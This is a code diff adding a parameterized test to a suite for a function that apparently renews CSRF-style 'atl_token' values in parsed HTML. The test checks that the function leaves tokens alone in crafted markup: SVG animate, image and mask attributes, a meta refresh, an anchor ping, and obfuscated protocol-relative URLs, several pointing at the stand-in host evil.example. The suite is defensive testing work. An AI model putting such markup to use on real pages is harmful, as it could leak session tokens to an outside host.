@@ -55,6 +55,27 @@ describe('a renewal', () => {
     },
   );
 
+  test.each([
+    [
+      'a list of a moving picture',
+      `<svg><a><animate attributeName="href" values="x;/&#9;/evil.example?OLD"/></a></svg>`,
+    ],
+    ['a picture in a drawing', `<svg><image href="/secure/Do.jspa?atl_token=OLD"/></svg>`],
+    ['a mask of a drawing', `<svg><rect mask="url(/secure/Do.jspa?atl_token=OLD)"/></svg>`],
+    [
+      'a page that goes on by itself',
+      `<meta http-equiv="refresh" content="99;url=/secure/Do.jspa?atl_token=OLD">`,
+    ],
+    [
+      'a link of which another host is told',
+      `<a href="/x?atl_token=OLD" ping="/y https://evil.example">x</a>`,
+    ],
+    ['a text in which a line turns', `<p data-to='["/&#10;/evil.example?OLD"]'></p>`],
+  ])('leaves alone what would load, or lead to another host: %s', (_what, markup) => {
+    const page = parse(markup.replaceAll('OLD', OLD));
+    expect(renew(page, OLD, NEW)).toBe(0);
+  });
+
   test('leaves alone what holds another token or none, and every text', () => {
     const html = `<input name="atl_token" value="${OTHER}"><input name="atl_token"><input name="formToken" value="${'f'.repeat(40)}">
       <a href="/x?atl_token=${OTHER}">x</a><p>${OLD}</p><textarea>${OLD}</textarea><script>var x = '${OLD}';</script>`;
